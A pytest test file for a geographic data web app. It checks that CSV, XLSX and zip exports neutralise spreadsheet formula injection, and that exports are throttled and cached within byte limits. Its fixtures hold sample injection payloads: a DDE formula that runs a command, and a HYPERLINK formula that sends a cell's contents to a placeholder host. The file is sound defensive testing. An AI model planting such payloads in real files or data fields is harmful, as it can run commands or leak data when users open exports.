"""Exports safe to open (no live formula in CSV/XLSX/zip) and bounded work (job slots, single flight, byte caps)."""
from __future__ import annotations

import csv
import io
import threading
import zipfile

import openpyxl
import pandas as pd
import pytest

from geoapp import create_app
from geoapp.ingest import export_units, import_boundaries
from geoapp.records import export_statuses, import_status_file, template
from geoapp.briefing.tabular import csv_text, safe_cell
from geoapp.schemes import load_catalogue
from geoapp.briefing import service
from geoapp.web import cache
from geoapp.web.jobs import export_slots

from .conftest import communes, db_url, write_shp

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"          # a unit name read from a boundary file
PAYLOADS = (HYPERLINK, DDE, "+1+1", "-2+3", "@A1", "\t=1+1", "\r=1+1", NAME)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def make_app(tmp_path, **settings):
    app = create_app({"DATABASE_URL": db_url(tmp_path, "x"), "INSTANCE_PATH": str(tmp_path), "SECRET_KEY": "t",
                      "PUBLIC_READ": True, **settings})
    store = app.extensions["geoapp.store"]
    frame = communes(4)
    frame.loc[0, "TenXa"] = NAME
    import_boundaries(store, [write_shp(frame, tmp_path / "shp")], "2025")
    rows = [["ma_xa", "che_do", "trang_thai", "tu_ngay", "so_quyet_dinh", "ghi_chu"],
            ["3388", "antt", "trong_diem_phuc_tap", "2025-08-01", DDE, HYPERLINK],
            ["3389", "antt", "trong_diem_phuc_tap", "2025-08-01", "-2+3", "+1+1"],
            ["3390", "antt", "trong_diem_phuc_tap", "2025-08-01", "@A1", "\t=1+1"]]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    (tmp_path / "st.csv").write_text(buf.getvalue(), encoding="utf-8")
    import_status_file(store, tmp_path / "st.csv", "2025", load_catalogue())
    cache.clear()
    return app


@pytest.fixture
def app(tmp_path):
    return make_app(tmp_path)


# --- the rule ------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", PAYLOADS)
def test_text_that_a_spreadsheet_would_evaluate_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Xã Mường Tè", "", "1-2", "'=already quoted", -1, -2.5, 0, None, True])
def test_everything_else_is_left_as_is(value):
    assert safe_cell(value) == value if value is not None else safe_cell(value) is None


def test_numbers_stay_numbers_and_headers_are_neutralised():
    text = csv_text(pd.DataFrame({"=x": ["-1"], "v": [-1.5]}))
    assert text.splitlines() == ["'=x,v", "'-1,-1.5"]


# --- what the files hold -------------------------------------------------------------------------

def assert_safe_rows(rows, payloads=(HYPERLINK, DDE, NAME)):
    cells = [c for row in rows for c in row if isinstance(c, str)]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    for payload in payloads:
        assert "'" + payload in cells, payload


def assert_safe_xlsx(data: bytes, payloads=(HYPERLINK, DDE, NAME)):
    book = openpyxl.load_workbook(io.BytesIO(data))
    formulas = [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert_safe_rows(book["data"].iter_rows(values_only=True), payloads)


def assert_safe_csv(data: bytes, payloads=(HYPERLINK, DDE, NAME)):
    lines = [line for line in data.decode("utf-8-sig").splitlines(keepends=True) if not line.startswith("# ")]
    assert_safe_rows(csv.reader(io.StringIO("".join(lines))), payloads)


VIEW = "?scheme=antt&as_of=2025-12-31"


def test_xlsx_export_has_no_formula_cells(app):
    resp = app.test_client().get("/export/2025/12.xlsx" + VIEW)
    assert resp.status_code == 200
    assert_safe_xlsx(resp.data)


def test_csv_export_cells_start_with_a_quote(app):
    resp = app.test_client().get("/export/2025/12.csv" + VIEW)
    assert resp.status_code == 200
    assert_safe_csv(resp.data)


def test_briefing_pack_members_are_safe(app):
    resp = app.test_client().get("/export/2025/12.zip" + VIEW)
    assert resp.status_code == 200
    pack = zipfile.ZipFile(io.BytesIO(resp.data))
    assert_safe_csv(pack.read(next(n for n in pack.namelist() if n.endswith(".csv"))))
    assert_safe_xlsx(pack.read(next(n for n in pack.namelist() if n.endswith(".xlsx"))))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_status_export_and_template_are_safe(app, fmt):
    store, cat = app.extensions["geoapp.store"], app.extensions["geoapp.catalogue"]
    check = assert_safe_csv if fmt == "csv" else assert_safe_xlsx
    check(export_statuses(store, "2025", cat, fmt, as_of="2025-12-31"), (HYPERLINK, DDE))   # no short name column
    data = template(store, "2025", "12", cat, fmt)
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(data))
        assert [c for s in book for r in s.iter_rows() for c in r if c.data_type == "f"] == []
        assert "'" + NAME in [c for r in book["data"].iter_rows(values_only=True) for c in r]
    else:
        assert "'" + NAME in [c for r in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in r]


def test_unit_list_csv_is_safe(app):
    data = export_units(app.extensions["geoapp.store"], "2025", "12", "csv").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(data)) for c in row]
    assert "'" + NAME in cells and NAME not in cells


# --- bounded work --------------------------------------------------------------------------------

def hold_every_slot(slots):
    for i in range(slots.total):
        assert slots.try_take(f"someone else {i}") is None


def give_every_slot_back(slots):
    for i in range(slots.total):
        slots.give_back(f"someone else {i}")


def test_export_without_a_free_slot_is_429_with_retry_after(app):
    slots = export_slots(app)
    hold_every_slot(slots)
    try:
        resp = app.test_client().get("/export/2025/12.png" + VIEW)
        assert resp.status_code == 429
        assert int(resp.headers["Retry-After"]) >= 1
        page = resp.get_data(as_text=True)
        assert "thử lại" in page and "try again" not in page          # in the page's language (vi)
        english = app.test_client().get("/export/2025/12.png" + VIEW + "&lang=en")
        assert english.status_code == 429 and "try again" in english.get_data(as_text=True)
        # one province's table is cheap: it does not need a slot; the whole country does
        assert app.test_client().get("/export/2025/12.csv" + VIEW).status_code == 200
        assert app.test_client().get("/export/2025/all.csv" + VIEW).status_code == 429
    finally:
        give_every_slot_back(slots)
    assert app.test_client().get("/export/2025/12.png" + VIEW).status_code == 200


def test_one_job_per_user_at_a_time(tmp_path):
    app = make_app(tmp_path, EXPORT_JOBS=4, EXPORT_JOBS_PER_USER=1)
    slots = export_slots(app)
    assert slots.try_take("addr:127.0.0.1") is None          # the test client's address, signed out
    try:
        resp = app.test_client().get("/export/2025/12.pdf" + VIEW)
        assert resp.status_code == 429 and resp.headers["Retry-After"]
        other = app.test_client().get("/export/2025/12.pdf" + VIEW, environ_base={"REMOTE_ADDR": "10.0.0.9"})
        assert other.status_code == 200
    finally:
        slots.give_back("addr:127.0.0.1")


def test_a_cached_export_needs_no_slot(app):
    client = app.test_client()
    first = client.get("/export/2025/12.png" + VIEW)
    slots = export_slots(app)
    hold_every_slot(slots)
    try:
        again = client.get("/export/2025/12.png" + VIEW + "&junk=1")
        assert again.status_code == 200 and again.data == first.data
    finally:
        give_every_slot_back(slots)


def test_identical_concurrent_packs_are_computed_once(tmp_path, monkeypatch):
    app = make_app(tmp_path, EXPORT_JOBS=4, EXPORT_JOBS_PER_USER=4)
    real, calls, entered, release = service.view_data, [], threading.Event(), threading.Event()

    def counting(store, catalogue, view):
        calls.append(view.province)
        entered.set()
        assert release.wait(60), "the test never released the computation"
        return real(store, catalogue, view)
    monkeypatch.setattr(service, "view_data", counting)
    results = []

    def fetch():
        results.append(app.test_client().get("/export/2025/12.zip" + VIEW))
    leader = threading.Thread(target=fetch)
    leader.start()
    assert entered.wait(60)
    followers = [threading.Thread(target=fetch) for _ in range(2)]
    [t.start() for t in followers]
    for _ in range(6000):                      # until both wait for the leader's computation
        if cache.EXPORTS.waiting() == 2:
            break
        threading.Event().wait(0.01)
    assert cache.EXPORTS.waiting() == 2
    release.set()
    [t.join(60) for t in [leader, *followers]]
    assert [r.status_code for r in results] == [200, 200, 200]
    assert len({r.data for r in results}) == 1
    assert calls == ["12"]                     # once for the three requests, and once for the whole pack
    assert export_slots(app).in_use == 0


def test_response_cache_stays_under_its_byte_limit(tmp_path):
    app = make_app(tmp_path, CACHE_MB=0.02)                  # ~20 KB
    limit = int(0.02 * 1024 * 1024)
    client = app.test_client()
    for i in range(40):                                      # junk query strings: a new entry each
        assert client.get(f"/api/v1/2025/units?province=12&lod=2&junk={i}").status_code == 200
        assert cache.RESPONSES.size <= limit
    assert 0 < len(cache.RESPONSES) < 40


def test_export_cache_stays_under_its_byte_limit(tmp_path):
    app = make_app(tmp_path, EXPORT_CACHE_MB=0.5)
    client = app.test_client()
    for day in range(1, 8):
        assert client.get(f"/export/2025/12.xlsx?scheme=antt&as_of=2025-12-0{day}").status_code == 200
        assert cache.EXPORTS.size <= 0.5 * 1024 * 1024


def test_one_answer_too_big_for_the_cache_is_served_not_kept():
    lru = cache.ByteLRU()
    assert lru.get_or_compute("big", lambda: b"x" * 300, len, limit=1000) == b"x" * 300
    assert lru.get("big") is None and lru.size == 0
    for i in range(10):
        lru.get_or_compute(f"k{i}", lambda: b"y" * 200, len, limit=1000)
        assert lru.size <= 1000
    assert lru.get("k0") is None and lru.get("k9") == b"y" * 200


def test_a_failed_computation_is_not_kept():
    lru = cache.ByteLRU()

    def fail():
        raise ValueError("boom")
    with pytest.raises(ValueError):
        lru.get_or_compute("k", fail, len, limit=1000)
    assert lru.get_or_compute("k", lambda: b"ok", len, limit=1000) == b"ok"
